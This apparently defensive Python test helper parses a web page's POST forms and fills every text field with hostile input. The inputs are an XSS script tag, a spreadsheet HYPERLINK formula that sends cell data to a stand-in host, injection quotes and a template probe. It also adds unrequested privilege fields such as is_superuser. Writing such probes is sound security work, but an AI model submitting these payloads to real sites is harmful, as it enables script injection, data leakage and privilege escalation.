"""The forms of a page as somebody with bad intentions sees them: every field, filled with what does harm."""

import re
from collections.abc import Iterator
from dataclasses import dataclass
from urllib.parse import urljoin

import lxml.html
from lxml.html import FormElement, HtmlElement

ALIVE = "<script>alert(4711)</script>"
FORMULA = '=HYPERLINK("https://x.invalid/?"&A1)'
HOSTILE = f"{FORMULA} {ALIVE} '\"--%(x)s {{{{7*7}}}}"
# What no form asks for. A field that is taken for more than the form shows would change a row it should not.
UNASKED = {
    "id": "1",
    "pk": "1",
    "user": "1",
    "user_id": "1",
    "by": "1",
    "by_id": "1",
    "entered_by": "1",
    "partnership": "2",
    "partnership_id": "2",
    "organisation_id": "2",
    "is_active": "0",
    "is_demo": "0",
    "is_staff": "1",
    "is_superuser": "1",
    "is_simulated": "0",
    "password": "hej",
    "adopted_on": "2020-01-01",
    "adopted_by": "1",
    "released_at": "2020-01-01",
    "sign": "-1",
}
WORDS = {"text", "search", "", "url", "email", "tel"}
KEPT = {"csrfmiddlewaretoken", "once", "seen", "stamp", "key"}


@dataclass(frozen=True)
class Form:
    """A form that posts: where to, and its fields with the values they stand with."""

    address: str
    fields: tuple[tuple[str, str, str], ...]  # name, sort, value

    @property
    def names(self) -> set[str]:
        return {name for name, _, _ in self.fields}

    @property
    def likeness(self) -> tuple[str, frozenset[str]]:
        """Return what tells one sort of form from another, whatever row it is for."""
        shape = re.sub(r"\d+|[0-9a-f]{8}-[0-9a-f-]{27}", "#", self.address)
        return shape, frozenset(re.sub(r"\d+", "#", name) for name, _, _ in self.fields)

    def filled(self, words: str) -> dict[str, str]:
        """Return the form with these words in every field for words, and all else as it stands."""
        own = {
            name: words if sort == "words" and name not in KEPT else value
            for name, sort, value in self.fields
        }
        return UNASKED | own


def forms(html: str, address: str) -> Iterator[Form]:
    """Yield the forms of a page that post."""
    for form in lxml.html.fromstring(html).forms:
        if form.method == "POST":
            yield Form(urljoin(address, form.get("action") or address), tuple(_fields(form)))


def _fields(form: FormElement) -> Iterator[tuple[str, str, str]]:
    taken: set[str] = set()
    for field in form.iter("input", "textarea", "select", "button"):
        name = field.get("name")
        if not name or (name in taken and field.get("checked") is None):
            continue
        taken.add(name)
        yield name, *_read(field)


def _read(field: HtmlElement) -> tuple[str, str]:
    if field.tag == "textarea":
        return "words", field.text or ""
    if field.tag == "select":
        options = field.xpath(".//option[@selected]") or field.xpath(".//option[@value != '']")
        return "choice", options[0].get("value", "") if options else ""
    is_words = field.tag == "input" and field.get("type", "text") in WORDS
    return "words" if is_words else "choice", field.get(
        "value", "on" if field.get("type") == "checkbox" else ""
    )
